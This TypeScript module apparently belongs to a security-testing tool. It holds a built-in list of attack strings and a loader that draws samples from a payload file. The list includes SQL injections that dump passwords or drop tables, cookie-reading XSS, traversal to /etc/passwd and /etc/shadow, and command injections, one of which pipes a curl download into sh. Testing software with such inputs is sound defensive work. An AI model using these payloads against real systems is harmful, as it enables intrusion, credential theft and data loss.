import { readFileSync } from "node:fs";
import { gunzipSync } from "node:zlib";
import type { Random } from "./random.ts";

/** Classes of attack that are carried by a single value. */
export const PAYLOAD_CLASSES = ["sqli", "xss", "path-traversal", "cmdi"] as const;

/** One of {@link PAYLOAD_CLASSES}. */
export type PayloadClass = (typeof PAYLOAD_CLASSES)[number];

/** Attack strings by class. */
export type Payloads = Readonly<Record<PayloadClass, readonly string[]>>;

/** A small set of our own, used when no payload file is at hand. */
export const OWN_PAYLOADS: Payloads = {
  sqli: [
    "' OR '1'='1' --",
    "x' UNION SELECT name, password FROM accounts --",
    "1; DROP TABLE accounts",
    "1' AND SLEEP(5) #",
    "-1' UNION ALL SELECT NULL, NULL, sqlite_version() --",
    "' OR EXISTS (SELECT 1 FROM accounts WHERE role = 'admin') --",
  ],
  xss: [
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=fetch('/api/orders')>",
    "'><details open ontoggle=alert(1)>",
  ],
  "path-traversal": [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "../../../../../../var/log/auth.log",
  ],
  cmdi: [
    "mugs.txt; cat /etc/passwd",
    "mugs.txt | id",
    "$(curl http://127.0.0.1/x.sh | sh)",
    "`wget http://127.0.0.1/x`",
    "mugs.txt && uname -a",
    "; /bin/sh -c 'whoami'",
  ],
};

const MAX_LENGTH = 400;

/**
 * Draws attack strings from a file of JSON lines `{"label", "payload"}` (gzip or plain), or from {@link OWN_PAYLOADS} when no path is given.
 *
 * @param count Strings a class; fewer when the file has fewer.
 * @throws Error when the file cannot be read, or lacks a class.
 */
export function drawPayloads(path: string | undefined, random: Random, count: number): Payloads {
  const source = path === undefined ? OWN_PAYLOADS : readPayloads(path);
  const draw = (name: PayloadClass): readonly string[] => random.sample(source[name], count);
  return { sqli: draw("sqli"), xss: draw("xss"), "path-traversal": draw("path-traversal"), cmdi: draw("cmdi") };
}

function readPayloads(path: string): Payloads {
  const bytes = readFileSync(path);
  const text = (path.endsWith(".gz") ? gunzipSync(bytes) : bytes).toString("utf8");
  const byClass: Record<PayloadClass, string[]> = { sqli: [], xss: [], "path-traversal": [], cmdi: [] };
  for (const [index, line] of text.split("\n").entries()) {
    if (line === "") continue;
    let row: { label?: unknown; payload?: unknown };
    try {
      row = JSON.parse(line) as { label?: unknown; payload?: unknown };
    } catch {
      throw new Error(`${path}, line ${index + 1}: this is no JSON.`);
    }
    const name = PAYLOAD_CLASSES.find((known) => known === row.label);
    if (name === undefined || typeof row.payload !== "string" || row.payload === "" || row.payload.length > MAX_LENGTH)
      continue;
    // The source writes {file} where a file name is to be put in.
    byClass[name].push(row.payload.replaceAll("{file}", "etc/passwd"));
  }
  for (const name of PAYLOAD_CLASSES)
    if (byClass[name].length === 0) throw new Error(`${path} has no payload with the label "${name}".`);
  return byClass;
}
